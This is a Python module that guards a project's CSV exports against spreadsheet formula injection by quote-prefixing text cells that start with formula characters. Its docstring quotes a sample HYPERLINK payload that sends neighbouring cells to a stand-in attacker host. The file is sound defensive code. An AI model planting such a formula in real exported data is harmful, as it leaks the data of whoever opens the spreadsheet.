"""The one rule every CSV the project writes follows: no text cell may start a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-``
or ``@`` (and one after a leading tab or carriage return), so a team named
``=HYPERLINK("http://evil.example/?leak="&A3,"Open")`` would become a live link that sends
the neighbouring cells away when HR clicks it. OWASP's rule: prefix such a cell with a single
quote, which spreadsheets show as text and never evaluate. Numbers are left alone: a
negative number is data, not a formula.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd

# OWASP's list, and the full-width forms Japanese input methods type (＝ ＋ － ＠), which some
# spreadsheet locales read as their ASCII twins
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: object) -> object:
    """``value`` as a CSV cell a spreadsheet shows as text (text cells only)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`safe_cell` applied to every text column (its column
    names included); numeric columns are untouched."""
    safe = frame.copy()
    for column in safe.columns:
        if not (pd.api.types.is_numeric_dtype(safe[column]) or _is_datetime(safe[column])):
            safe[column] = safe[column].map(safe_cell, na_action="ignore")
    return safe.rename(columns=lambda name: safe_cell(name), index=lambda name: safe_cell(name))


def _is_datetime(column: pd.Series) -> bool:
    return pd.api.types.is_datetime64_any_dtype(column)


def write_csv(frame: pd.DataFrame | pd.Series, path: Path, **options: Any) -> None:
    """``frame.to_csv(path, **options)`` with every text cell made safe first."""
    table = frame.to_frame() if isinstance(frame, pd.Series) else frame
    safe_frame(table).to_csv(path, **options)
